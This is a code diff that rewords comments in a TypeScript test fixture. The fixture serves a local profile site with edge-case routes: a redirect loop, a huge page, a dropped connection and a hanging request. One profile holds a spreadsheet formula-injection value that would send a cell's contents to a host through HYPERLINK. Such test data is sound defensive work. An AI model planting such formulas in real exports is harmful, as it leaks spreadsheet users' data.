@@ -1,23 +1,23 @@
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 
-/** Somebody of the site, under the path of their page. */
+/** The people on the site, by the path of their page. */
 export const PEOPLE: Readonly<Record<string, { readonly name: string; readonly title: string }>> = {
   ada: { name: 'Ada Lovelace', title: 'Analyst, Analytical Engine' },
   grace: { name: 'Grace Hopper', title: 'Rear Admiral & computer scientist' },
-  // What would run if a spreadsheet took it for a formula.
+  // A formula, if a spreadsheet interprets it.
   mallory: { name: '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Mallory")', title: '+1+1' },
 }
 
-/** A site of profiles on this machine. */
+/** A site with profiles on this machine. */
 export interface ProfileSite {
   readonly url: string
-  /** The paths that were asked for. */
+  /** The requested paths. */
   readonly asked: readonly string[]
   close(): Promise<void>
 }
 
-/** Starts it. Its pages are written by their own scripts, as those of such sites are: only a browser sees them. */
+/** Starts it. Scripts render its pages, as on many such sites, so only a browser can read them. */
 export async function startProfileSite(): Promise<ProfileSite> {
   const asked: string[] = []
   const server = createServer(({ url = '/' }, response) => {
@@ -32,7 +32,7 @@ export async function startProfileSite(): Promise<ProfileSite> {
     if (url === '/around') return response.writeHead(302, { location: '/around' }).end()
     if (url === '/long') return send(`<p>${'word '.repeat(40_000)}</p>`)
     if (url === '/cut') return response.destroy()
-    // Whoever asks for this waits for as long as they like.
+    // This request never gets an answer.
     if (pathname === '/slow') return
     send('<h1>Not found</h1>', 404)
   })
@@ -52,7 +52,7 @@ async function listening(server: Server): Promise<number> {
   return (server.address() as AddressInfo).port
 }
 
-/** A page whose body is made of data by a script. */
+/** A page whose body a script makes from data. */
 const written = (data: unknown, script: string) =>
   `<!doctype html><title>People</title><main></main>
 <script type="application/json" id="data">${JSON.stringify(data).replaceAll('<', '\\u003c')}</script>
